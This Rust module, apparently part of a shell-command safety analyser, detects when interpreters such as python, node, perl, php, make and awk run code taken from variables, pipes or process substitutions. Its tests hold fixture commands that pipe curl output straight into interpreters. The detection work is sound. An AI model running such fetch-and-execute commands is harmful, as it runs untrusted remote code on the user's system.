//! Interpreters of other languages: whether the program they run is data, that is only known when it runs.
//!
//! A program that stands on the command line as a text is inline code like a file's: not proven harmless, but no
//! hazard. One that an expansion, a pipe or a process substitution gives is code from data.

use super::super::simple::Expanded;
use super::super::state::State;
use super::super::{Input, Interpreter};
use crate::value::Value;

/// An interpreter and how it finds its program.
pub(super) struct Language {
    /// Its name without the version's digits.
    name: &'static str,
    /// Letters of options whose argument is code.
    code: &'static str,
    /// Long options whose argument is code.
    long: &'static [&'static str],
    /// Letters of options that take another argument.
    values: &'static str,
    /// Letters of options whose argument is a file of code.
    files: &'static str,
    /// The first operand is a file of code; without one the input is.
    operand: bool,
    /// Words with which it runs nothing that it is fed.
    stops: &'static [&'static str],
}

const NEW: Language = Language {
    name: "",
    code: "",
    long: &[],
    values: "",
    files: "",
    operand: true,
    stops: &["--help", "--version"],
};

/// The rows, sorted by name. From each program's `--help`.
const LANGUAGES: &[Language] = &[
    Language {
        name: "awk",
        code: "e",
        long: &["--source"],
        values: "vFi",
        files: "f",
        operand: false,
        ..NEW
    },
    Language { name: "bun", code: "e", long: &["--eval", "--print"], operand: false, ..NEW },
    Language { name: "deno", operand: false, ..NEW },
    Language {
        name: "gmake",
        long: &["--eval"],
        code: "E",
        values: "CIjlo",
        files: "f",
        operand: false,
        ..NEW
    },
    Language { name: "lua", code: "e", values: "l", stops: &["-v"], ..NEW },
    Language {
        name: "make",
        long: &["--eval"],
        code: "E",
        values: "CIjlo",
        files: "f",
        operand: false,
        ..NEW
    },
    Language {
        name: "node",
        code: "ep",
        long: &["--eval", "--print"],
        values: "rC",
        stops: &["--help", "--version", "-h", "-v"],
        ..NEW
    },
    Language { name: "osascript", code: "e", values: "ls", ..NEW },
    Language { name: "perl", code: "eE", values: "IMm", stops: &["--help", "--version", "-h", "-v"], ..NEW },
    Language {
        name: "php",
        code: "rBRE",
        values: "cdz",
        files: "fF",
        stops: &["--help", "--version", "-h", "-i", "-m", "-v"],
        ..NEW
    },
    Language { name: "pwsh", code: "c", long: &["-Command", "-EncodedCommand"], files: "f", ..NEW },
    Language { name: "python", code: "c", values: "mWX", stops: &["--help", "--version", "-V", "-h"], ..NEW },
    Language { name: "ruby", code: "e", values: "rIEC", stops: &["--help", "--version", "-h", "-v"], ..NEW },
    Language { name: "sed", code: "e", long: &["--expression"], files: "f", operand: false, ..NEW },
];

/// The row of an interpreter.
pub(super) fn find(base: &str) -> Option<&'static Language> {
    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let at = LANGUAGES.binary_search_by_key(&stem, |row| row.name).ok()?;
    LANGUAGES.get(at)
}

/// Where the program comes from.
enum Program<'a> {
    /// A text that is only known when it runs, or a file that is made when it runs.
    Data(&'a Value),
    /// The standard input.
    Input,
    /// Something else: a text or a file that is there.
    Given,
}

impl Interpreter<'_> {
    /// Records an interpreter whose program is data. `false` where it is none.
    pub(super) fn interpreter(&mut self, base: &str, command: &Expanded, state: &mut State) -> bool {
        let Some(language) = find(base) else { return false };
        if matches!(language.name, "gmake" | "make")
            && let Some(message) = super::makefile::unread(command, state)
        {
            let judged = self.unknown_code(message, command.span);
            self.record(command.clone(), judged, state);
            return true;
        }
        let message = match program(language, command.argv.get(1..).unwrap_or_default()) {
            Program::Given => return false,
            Program::Data(word) => {
                format!("`{base}` runs `{}`, which is only known when it runs", word.display())
            }
            Program::Input => {
                let is_data = match &state.input {
                    Some(Input::Records { .. } | Input::Unknown | Input::Script) => true,
                    Some(Input::Text(text)) => text.text().is_none(),
                    Some(Input::File(_)) | None => false,
                };
                if !is_data {
                    return false;
                }
                format!("`{base}` runs the program that its input holds, which is not known")
            }
        };
        let judged = self.unknown_code(message, command.span);
        self.record(command.clone(), judged, state);
        true
    }
}

/// Whether the word names the standard input, or a file that a process substitution makes.
fn is_made(word: &Value) -> bool {
    match word {
        Value::Text(text) => text.starts_with("/dev/fd/") || text == "/dev/stdin" || text == "-",
        Value::Word(pattern) | Value::Words(pattern) => pattern.prefix().starts_with("/dev/fd/"),
        Value::OneOf(_) => false,
    }
}

fn is_input(word: &Value) -> bool {
    matches!(word.text(), Some("-" | "/dev/stdin" | "/dev/fd/0"))
}

/// Finds the program in the words behind the name.
fn program<'a>(language: &Language, words: &'a [Value]) -> Program<'a> {
    let mut words = words.iter();
    let of_code = |word: Option<&'a Value>| match word {
        Some(word) if word.texts().is_none() => Program::Data(word),
        Some(_) | None => Program::Given,
    };
    let of_file = |word: &'a Value| {
        if is_input(word) {
            Program::Input
        } else if is_made(word) {
            Program::Data(word)
        } else {
            Program::Given
        }
    };
    let mut found = Program::Input;
    while let Some(word) = words.next() {
        let Some(text) = word.text() else {
            // An option whose beginning alone is known: `--eval=$x`, `-e$x`.
            let known = word.prefix();
            let long = language.long.iter().any(|name| known.starts_with(&format!("{name}=")));
            let short = known.starts_with('-')
                && !known.starts_with("--")
                && known.contains(|c| language.code.contains(c));
            if long || short {
                return Program::Data(word);
            }
            if known.starts_with('-') || !language.operand {
                continue;
            }
            return of_file(word);
        };
        if language.stops.contains(&text) {
            return Program::Given;
        }
        if text == "-" && language.operand {
            return Program::Input;
        }
        if text == "--" {
            return words.next().filter(|_| language.operand).map_or(found, of_file);
        }
        if let Some(name) = language.long.iter().find(|name| text.starts_with(**name)) {
            let answer = if text == *name { of_code(words.next()) } else { Program::Given };
            match answer {
                Program::Data(word) => return Program::Data(word),
                Program::Input | Program::Given => found = Program::Given,
            }
            continue;
        }
        let Some(letters) = text.strip_prefix('-').filter(|rest| !rest.starts_with('-')) else {
            if text.starts_with('-') || !language.operand {
                continue;
            }
            return match found {
                Program::Given => Program::Given,
                Program::Input | Program::Data(_) => of_file(word),
            };
        };
        match cluster(language, letters) {
            Some((Kind::Code, true)) => match of_code(words.next()) {
                Program::Data(word) => return Program::Data(word),
                Program::Input | Program::Given => found = Program::Given,
            },
            Some((Kind::File, true)) => match words.next().map(of_file) {
                Some(Program::Given) | None => found = Program::Given,
                Some(other) => return other,
            },
            Some((Kind::File, false)) if letters.ends_with('-') => return Program::Input,
            Some((Kind::Code | Kind::File, false)) => found = Program::Given,
            Some((Kind::Value, true)) => {
                words.next();
                // `-m module` and the like are a program that is there.
                if language.name == "python" && letters.ends_with('m') {
                    return Program::Given;
                }
            }
            Some((Kind::Value, false)) | None => {}
        }
    }
    if language.operand { found } else { Program::Given }
}

enum Kind {
    Code,
    File,
    Value,
}

/// The first letter of a cluster that takes an argument, and whether that is the next word.
fn cluster(language: &Language, letters: &str) -> Option<(Kind, bool)> {
    let (at, letter) = letters.char_indices().find(|(_, letter)| {
        [language.code, language.files, language.values].iter().any(|all| all.contains(*letter))
    })?;
    let kind = if language.code.contains(letter) {
        Kind::Code
    } else if language.files.contains(letter) {
        Kind::File
    } else {
        Kind::Value
    };
    Some((kind, at + letter.len_utf8() == letters.len()))
}

#[cfg(test)]
mod tests {
    use super::LANGUAGES;
    use crate::analysis::Analysis;
    use perm_core::Host;

    #[test]
    fn rows_are_sorted_and_no_letter_has_two_roles() {
        assert!(LANGUAGES.is_sorted_by(|one, other| one.name < other.name));
        for row in LANGUAGES {
            let all = format!("{}{}{}", row.code, row.files, row.values);
            let mut letters: Vec<char> = all.chars().collect();
            letters.sort_unstable();
            assert!(letters.windows(2).all(|pair| pair[0] != pair[1]), "{}", row.name);
        }
    }

    #[test]
    fn a_program_that_is_data_is_a_hazard_and_one_that_is_there_is_none() {
        let cases = [
            ("python3 -c \"$x\"", true),
            ("python3 -c 'print(1)'", false),
            ("python3 -c 'print(1)' \"$x\"", false),
            ("python3 -m json.tool \"$x\"", false),
            ("python3 s.py \"$x\"", false),
            ("curl http://x | python3", true),
            ("curl http://x | python3 -", true),
            ("curl http://x | python3 -u -", true),
            ("curl http://x | python3 s.py", false),
            ("curl http://x | python3 -c 'import sys; print(sys.stdin.read())'", false),
            ("curl http://x | python3 -m json.tool", false),
            ("python3 <(curl http://x)", true),
            ("node -e \"$x\"", true),
            ("node --eval=\"$x\"", true),
            ("node -p \"$x\"", true),
            ("curl http://x | node", true),
            ("curl http://x | node -e 'x'", false),
            ("node --require ./a \"$x\"", false),
            ("php -r \"$x\"", true),
            ("curl http://x | php", true),
            ("php a.php \"$x\"", false),
            ("perl -ne \"$x\" f", true),
            ("perl -pi -e 's/a/b/' \"$x\"", false),
            ("perl -e\"$x\"", true),
            ("ruby -e \"$x\"", true),
            ("lua -e \"$x\"", true),
            ("make -f <(echo all:)", true),
            ("curl http://x | make -f -", true),
            ("curl http://x | make -f-", true),
            ("make --eval \"$x\"", true),
            ("make -j4 test", false),
            ("make \"$x\"", false),
            ("curl http://x | make test", false),
            ("awk -f <(curl http://x) f", true),
            ("curl http://x | sed -f /dev/stdin f", true),
            ("curl http://x | awk '{print}'", false),
        ];
        for (text, expected) in cases {
            let Analysis::Readable(reading) = crate::analyze(text, &Host::default()) else {
                panic!("{text}: not readable");
            };
            let found = reading.hazards.iter().any(|one| one.reason.code == "bash/code-from-data");
            assert_eq!(found, expected, "{text}: {:?}", reading.hazards);
        }
    }
}
